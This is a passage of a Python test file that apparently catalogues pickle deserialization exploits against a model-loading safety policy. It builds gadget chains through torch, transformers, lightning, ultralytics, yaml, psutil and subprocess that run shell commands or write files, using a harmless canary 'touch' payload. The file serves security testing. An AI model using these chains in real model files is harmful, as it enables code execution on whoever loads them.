        ("collections", "Counter"), ("collections", "Counter"), lambda canary: sequence_over(without_arguments(canary))
    ),
    "base_parameter": reconstructed(
        ("torch.nn.parameter", "Parameter"),
        ("torch.nn.parameter", "Parameter"),
        lambda canary: armed("detach", without_arguments(canary)),
    ),
    "base_buffer": reconstructed(
        ("torch.nn.parameter", "Buffer"),
        ("torch.nn.parameter", "Buffer"),
        lambda canary: armed("detach", without_arguments(canary)),
    ),
    "base_loss": reconstructed(
        ("ultralytics.utils.loss", "v8DetectionLoss"),
        ("ultralytics.utils.loss", "v8DetectionLoss"),
        lambda canary: armed("parameters", without_arguments(canary)),
    ),
}


def stated(module: str, qualified: str, state: Builder) -> Attack:
    """A class of a known trainer whose ``__setstate__`` does more than keep what it is given."""
    return Attack("A2", zipped(lambda canary: name(module, qualified) + EMPTY_TUPLE + NEWOBJ + state(canary) + BUILD))


def made(module: str, qualified: str, argument: Builder) -> Attack:
    """A class of a known trainer whose ``__new__`` asks its argument for methods."""
    return Attack("A2", zipped(lambda canary: name(module, qualified) + items(argument(canary)) + NEWOBJ))


def with_two(canary: str) -> bytes:
    """A callable that runs the payload when it is called with two arguments: it asks what it keeps for ``detach``."""
    return call(PARTIAL, name("torch._utils", "_rebuild_parameter"), armed("detach", without_arguments(canary)))


def group_state(canary: str) -> bytes:
    """Optimizers ask their groups for ``setdefault``."""
    groups = listed(armed("setdefault", with_two(canary)))
    return mapping(param_groups=groups, defaults=EMPTY_DICT, state=EMPTY_DICT)


TRAINERS: Mapping[str, Attack] = {
    "parameter_detaches": made(
        "torch.nn.parameter", "Parameter", lambda canary: armed("detach", without_arguments(canary))
    ),
    "parameter_detaches_ex": Attack(
        "A2",
        zipped(
            lambda canary: (
                PARAMETER + EMPTY_TUPLE + mapping(data=armed("detach", without_arguments(canary))) + NEWOBJ_EX
            )
        ),
    ),
    "parameter_by_function": Attack(
        "A2",
        zipped(
            lambda canary: call(name("copyreg", "__newobj__"), PARAMETER, armed("detach", without_arguments(canary)))
        ),
    ),
    "parameter_by_function_ex": Attack(
        "A2",
        zipped(
            lambda canary: call(
                name("copyreg", "__newobj_ex__"),
                PARAMETER,
                items(armed("detach", without_arguments(canary))),
                EMPTY_DICT,
            )
        ),
    ),
    "buffer_detaches": made("torch.nn.parameter", "Buffer", lambda canary: armed("detach", without_arguments(canary))),
    "optimizer_groups": stated("torch.optim.sgd", "SGD", group_state),
    "optimizer_groups_adam": stated("torch.optim.adam", "Adam", group_state),
    "tokenizer_vocabulary": stated(
        "transformers.models.roformer.tokenization_roformer",
        "RoFormerTokenizer",
        lambda canary: mapping(_tokenizer=armed("get_vocab", without_arguments(canary))),
    ),
    "attention_state": stated(
        "torch.nn.modules.activation", "MultiheadAttention", lambda canary: sequence_over(without_arguments(canary))
    ),
    "module_state_has_keys": stated(
        "torch.nn.modules.linear", "Linear", lambda canary: armed("keys", without_arguments(canary))
    ),
    "optimizer_state_has_keys": stated(
        "torch.optim.sgd", "SGD", lambda canary: armed("keys", without_arguments(canary))
    ),
    "metric_state_has_keys": stated(
        "torchmetrics.classification.accuracy",
        "MulticlassAccuracy",
        lambda canary: armed("keys", without_arguments(canary)),
    ),
    "batch_state": stated(
        "transformers.feature_extraction_utils", "BatchFeature", lambda canary: sequence_over(without_arguments(canary))
    ),
}


def yolo(**state: Builder) -> Builder:
    """A file of the ultralytics trainer whose stored model has more in its state."""

    def build(canary: str) -> bytes:
        model = detector()
        model = replace(model, state={**model.state, **{key: Raw(value(canary)) for key, value in state.items()}})
        head = model.state["_modules"]["model"].state["_modules"]["1"].state
        head.update({key: Tensor((1,), 8.0) for key in ("stride", "anchors", "strides")})
        return saved(ultralytics_checkpoint(ema=model))

    return build


STRATEGY = name("lightning.pytorch.strategies.single_device", "SingleDeviceStrategy") + EMPTY_TUPLE + NEWOBJ
FINALIZERS: Mapping[str, Attack] = {
    "finalizer_of_callback": stated(
        "transformers.integrations.integration_utils",
        "NeptuneCallback",
        lambda canary: mapping(_volatile_checkpoints_dir=NONE, _run=armed("stop", without_arguments(canary))),
    ),
    "finalizer_of_mlflow": stated(
        "transformers.integrations.integration_utils",
        "MLflowCallback",
        lambda canary: mapping(_auto_end_run=TRUE, _ml_flow=armed("active_run", without_arguments(canary))),
    ),
    "finalizer_of_profiler": stated(
        "lightning.pytorch.profilers.simple",
        "SimpleProfiler",
        lambda canary: mapping(_stage=NONE, _write_stream=NONE, _output_file=armed("close", without_arguments(canary))),
    ),
    "finalizer_of_summary": stated(
        "lightning.pytorch.utilities.model_summary.model_summary",
        "LayerSummary",
        lambda canary: mapping(_hook_handle=armed("remove", without_arguments(canary))),
    ),
    "finalizer_of_summary_method": stated(
        "lightning.pytorch.utilities.model_summary.model_summary",
        "LayerSummary",
        lambda canary: mapping(detach_hook=without_arguments(canary)),
    ),
    "finalizer_of_backend": stated(
        "ultralytics.nn.backends.ascend",
        "AscendBackend",
        lambda canary: mapping(model=armed("free_resource", without_arguments(canary))),
    ),
    "finalizer_of_other_backend": stated(
        "ultralytics.nn.backends.hailo",
        "HailoBackend",
        lambda canary: mapping(_stack=armed("close", without_arguments(canary))),
    ),
    "finalizer_of_graphs": stated(
        "transformers.generation.continuous_batching.utils",
        "CudaGraphBuffer",
        lambda canary: mapping(_storage=armed("popitem", without_arguments(canary))),
    ),
    "metric_wraps": stated(
        "torchmetrics.classification.accuracy",
        "MulticlassAccuracy",
        lambda canary: mapping(_wrap_update=with_anything(canary)),
    ),
    "metric_wraps_compute": stated(
        "torchmetrics.classification.accuracy",
        "MulticlassAccuracy",
        lambda canary: mapping(_wrap_compute=with_anything(canary)),
    ),
    "strategy_optimizers": stated(
        "lightning.pytorch.strategies.single_device",
        "SingleDeviceStrategy",
        lambda canary: mapping(_optimizers=sequence_over(without_arguments(canary))),
    ),
    "optimizer_patches": stated(
        "torch.optim.sgd",
        "SGD",
        lambda canary: mapping(defaults=armed("setdefault", with_two(canary))),
    ),
    "optimizer_own_method": stated(
        "torch.optim.sgd",
        "SGD",
        lambda canary: mapping(defaults=EMPTY_DICT, _patch_step_function=without_arguments(canary)),
    ),
    "optimizer_state_get": stated(
        "torch.optim.adam",
        "Adam",
        lambda canary: mapping(
            defaults=EMPTY_DICT,
            param_groups=listed(mapping(params=listed(integer(1)))),
            state=armed("get", with_two(canary)),
        ),
    ),
    "teacher_hooks": stated(
        "ultralytics.nn.distill_model",
        "DistillationModel",
        lambda canary: mapping(
            feats_idx=listed(integer(0)),
            teacher_feats_idx=EMPTY_LIST,
            teacher_model=NONE,
            _register_feature_hooks=without_arguments(canary),
        ),
    ),
    "hash_of_metric": Attack(
        "A1",
        zipped(
            lambda canary: (
                EMPTY_SET
                + MARK
                + name("torchmetrics.text.rouge", "ROUGEScore")
                + EMPTY_TUPLE
                + NEWOBJ
                + mapping(_wrap_update=with_anything(canary))
                + BUILD
                + ADDITEMS
            )
        ),
    ),
    "slot_setter_of_trainer": Attack(
        "A1",
        zipped(
            lambda canary: (
                name("lightning.pytorch.trainer.trainer", "Trainer")
                + EMPTY_TUPLE
                + NEWOBJ
                + mapping(_accelerator_connector=CARRIERS["namespace"] + mapping(strategy=STRATEGY) + BUILD)
                + BUILD
                + items(NONE, mapping(optimizers=sequence_over(without_arguments(canary))))
                + BUILD
            )
        ),
    ),
}


AFTERWARDS: Mapping[str, Attack] = {
    **{
        f"model_{method}": Attack("A2", yolo(**{method: without_arguments}), loader="yolo")
        for method in ("float", "eval", "modules")
    },
    "model_to": Attack("A2", yolo(to=with_anything), loader="yolo"),
    "model_child_apply": Attack("A2", yolo(_apply=with_anything), loader="yolo"),
    "train_args_keys": Attack(
        "A2",
        lambda canary: saved(
            ultralytics_checkpoint(train_args=Raw(armed("keys", without_arguments(canary))), ema=detector())
        ),
        loader="yolo",
    ),
    "yaml_activation": Attack(
        "A2",
        yolo(yaml=evaluated),
        loader="build",
    ),
}


def keyed(canary: str) -> bytes:
    return call(name("sortedcontainers", "SortedKeyList"), listed(blob(evil(canary))), LOAD)


PACKAGES: Mapping[str, Attack] = {
    "psutil_popen": calling("psutil", "Popen", words),
    "psutil_popen_newobj_init": Attack(
        "A5",
        zipped(lambda canary: call(RECONSTRUCTOR, name("psutil", "Popen"), name("psutil", "Popen"), words(canary))),
    ),
    "sympy_s": calling("sympy", "S", expression),
    "sympy_finite_set": calling("sympy", "FiniteSet", expression),
    "sympy_matrix": calling("sympy", "Matrix", lambda canary: listed(expression(canary))),
    "sympy_lambda": calling("sympy", "Lambda", just(text("x")), expression),
    "sympy_poly": calling("sympy", "Poly", expression),
    "cv2_video_writer": calling("cv2", "FileStorage", path, just(integer(1))),
    "click_edit": calling("click", "edit", just(NONE), lambda canary: text("touch " + shlex.quote(canary) + " #")),
    "watchfiles_import": Attack(
        "A5",
        zipped(lambda canary: call(call(name("watchfiles.run", "import_string"), text("os.system")), shell(canary))),
    ),
    "filelock_file": calling("filelock._identity._process", "FileIO", path, just(text("w"))),
    "fonttools_open": calling("fontTools.misc.py23", "open", path, just(text("w"))),
    "sorted_key": Attack("A5", zipped(keyed)),
    "mypy_run": calling(
        "mypy.api", "run", lambda canary: listed(text("--junit-xml"), text(canary), text("-c"), text("x=1"))
    ),
    "execnet_makegateway": calling(
        "execnet", "makegateway", lambda canary: text(f"popen//python=sh -c 'touch {canary}'")
    ),
    "torch_file_writer": calling("torch", "PyTorchFileWriter", path),
    "torch_file_writer_c": calling("torch._C", "PyTorchFileWriter", path),
    "torch_package": calling("torch.package", "PackageExporter", path),
    "torch_graph": calling(
        "torch.fx.graph_module",
        "reduce_graph_module",
        lambda canary: mapping(_code=text(f"open({canary!r}, 'w').close()\ndef forward(self): pass")),
        just(text("")),
    ),
    "torch_pytree": calling("torch.utils._pytree", "tree_map", just(LOAD), lambda canary: listed(blob(evil(canary)))),
    "numpy_memmap": calling(
        "numpy", "memmap", path, just(text("uint8")), just(text("w+")), just(integer(0)), just(shape_of(1))
    ),
    "matplotlib_pdf": calling("matplotlib.backends.backend_pdf", "PdfFile", path),
    "ultralytics_settings": calling("ultralytics.utils", "SettingsManager", path),
    "yaml_unsafe": calling(
        "yaml", "unsafe_load", lambda canary: text("!!python/object/apply:os.system ['touch " + canary + "']")
    ),
    "distutils_spawn": calling("setuptools._distutils.spawn", "spawn", words),
    "torch_popen": calling("torch.utils.collect_env", "run", shell),
}


# --- what the policy allows, put together ------------------------------------------------------------


def built(module: str, qualified: str, **state: bytes) -> bytes:
    return name(module, qualified) + EMPTY_TUPLE + NEWOBJ + mapping(**state) + BUILD


def constructing(canary: str) -> bytes:
    """A partial that makes a model from a configuration whose activation its constructor evaluates."""
    return call(PARTIAL, name("ultralytics.nn.tasks", "DetectionModel"), evaluated(canary))


def lambda_layer() -> bytes:
    return built("torchvision.transforms.transforms", "Lambda", lambd=LOAD)


def fires(carrier: Callable[[], bytes]) -> Builder:
    return zipped(lambda canary: carrier() + blob(evil(canary)) + APPEND)


HOOKS = dict.fromkeys(
    (
        "_backward_hooks",
        "_backward_pre_hooks",
        "_forward_hooks",
        "_forward_pre_hooks",
        "_parameters",
        "_buffers",
        "_modules",
    ),
    EMPTY_DICT,
)
TOGETHER: Mapping[str, Attack] = {
    "alias_of_popen": Attack(
        "A1", zipped(lambda canary: armed("append", alias("subprocess", "Popen")) + words(canary) + APPEND)
    ),
    "alias_of_psutil": Attack(
        "A1", zipped(lambda canary: armed("append", alias("psutil", "Popen")) + words(canary) + APPEND)
    ),
    "alias_of_model": Attack(
        "A1",
        zipped(
            lambda canary: armed("append", alias("ultralytics.nn.tasks", "DetectionModel")) + evaluated(canary) + APPEND
        ),
    ),
    "alias_by_getitem": Attack(
        "A1",
        zipped(
            lambda canary: (
                armed("append", call(name("operator", "getitem"), name("subprocess", "Popen"), name("builtins", "int")))
                + words(canary)
                + APPEND
            )
        ),
    ),
    "layer_among_layers": Attack(
        "A1", fires(lambda: built("torch.nn.modules.linear", "Linear", _modules=mapping(append=lambda_layer())))
    ),
    "layer_among_buffers": Attack(
        "A1", fires(lambda: built("torch.nn.modules.linear", "Linear", _buffers=mapping(append=lambda_layer())))
    ),
    "layer_in_batch": Attack(
        "A1",
        fires(
            lambda: built("transformers.feature_extraction_utils", "BatchFeature", data=mapping(append=lambda_layer()))
        ),
    ),
    "converter_is_callable": Attack(
        "A1",
        fires(
            lambda: armed("append", built("accelerate.utils.operations", "ConvertOutputsToFp32", model_forward=LOAD))
        ),
    ),
    "bare_head_is_callable": Attack(
        "A1", fires(lambda: armed("append", built("ultralytics.nn.modules.head", "v10Detect", forward=LOAD, **HOOKS)))
    ),
    "mentioned_function_in_layer": Attack(
        "A1",
        zipped(
            lambda canary: (
                built(
                    "torch.nn.modules.linear",
                    "Linear",
                    _modules=mapping(
                        append=built("torchvision.transforms.transforms", "Lambda", lambd=name("os", "system"))
                    ),
                )
                + shell(canary)
                + APPEND
            )
        ),
    ),
    "summary_detaches": Attack(
        "A2",
        zipped(
            lambda canary: built(
                "lightning.pytorch.utilities.model_summary.model_summary",
                "LayerSummary",
                detach_hook=constructing(canary),
            )
        ),
    ),
    "loader_shuts_down": Attack(
        "A2",
        zipped(
            lambda canary: built(
                "lightning.pytorch.utilities.combined_loader",
                "_MultiProcessingDataLoaderIter",
                _shutdown_workers=constructing(canary),
            )
        ),
    ),
    "profiler_by_another_door": Attack(
        "A2",
        zipped(
            lambda canary: built(
                "lightning.pytorch.trainer.setup",
                "SimpleProfiler",
                _stage=NONE,
                _write_stream=NONE,
                _output_file=CARRIERS["namespace"] + mapping(close=without_arguments(canary)) + BUILD,
            )
        ),
    ),
    "tokenizer_by_the_package": Attack(
        "A2",
        zipped(
            lambda canary: built(
                "transformers",
                "RoFormerTokenizer",
                _tokenizer=CARRIERS["namespace"] + mapping(get_vocab=constructing(canary)) + BUILD,
            )
        ),
    ),
    "module_list_adds": Attack(
        "A1",
        zipped(
            lambda canary: (
                built(
                    "torch.nn.modules.container",
                    "ModuleList",
                    _modules=EMPTY_DICT,
                    add_module=constructing(canary),
                )
                + NONE
                + APPEND
            )
        ),
    ),
    "module_dict_adds": Attack(
        "A1",
        zipped(
            lambda canary: (
                built(
                    "torch.nn.modules.container",
                    "ModuleDict",
                    _modules=EMPTY_DICT,
                    add_module=constructing(canary),
                )
                + text("x")
                + NONE
                + SETITEM
            )
        ),
    ),
    "optimizer_patches_model": Attack(
        "A2",
        zipped(
            lambda canary: built(
                "torch.optim.sgd",
                "SGD",
                defaults=EMPTY_DICT,
                _patch_step_function=constructing(canary),
            )
        ),
    ),
    "unknown_run_under_append": Attack(
        "A5",
        zipped(
            lambda canary: (
                armed("append", name("mypy.api", "run"))
                + listed(text("--junit-xml"), text(canary), text("-c"), text("x=1"))
                + APPEND
            )
        ),
    ),
}


def method_called(canary: str) -> bytes:
    """``MethodType(load, bytes)`` under an unknown package's name, called by APPEND's fellow with no argument."""
    bound = call(name("fontTools.subset", "MethodType"), LOAD, blob(evil(canary)))
    return call(name("builtins", "dict"), armed("keys", bound))


ATTACKS: Mapping[str, Attack] = {
    **dict(instance_methods()),
    **STATES,
    **FORMATS,
    **ELSEWHERE,
    **DUCKS,
    **BASES,
    **AFTERWARDS,
    **FINALIZERS,
    **TRAINERS,
    **READERS,
    **PACKAGES,
    **TOGETHER,
    "fonttools_writer": calling("fontTools.misc.xmlWriter", "XMLWriter", path),
    "fsspec_opener": calling("fsspec.implementations.local", "LocalFileOpener", path, just(text("wb"))),
    "pillow_parser": calling(
        "PIL.PdfParser", "PdfParser", path, just(NONE), just(NONE), just(integer(0)), just(text("w+b"))
    ),
    "igzip_file": calling("isal.igzip", "IGzipFile", path, just(text("wb"))),
    "networkx_write": calling(
        "networkx", "write_adjlist", just(name("networkx", "Graph") + EMPTY_TUPLE + REDUCE), path
    ),
    "setuptools_spawn": calling("setuptools._distutils.spawn", "spawn", words),
    "numpy_savetxt": calling("numpy", "savetxt", path, just(listed(integer(1)))),
    "sympy_parse": calling("sympy.parsing.sympy_parser", "parse_expr", expression),
    "torch_mmap": calling("torch", "from_file", path, just(TRUE), just(integer(4))),
    "method_type_as_keys": Attack("A5", zipped(method_called)),
}
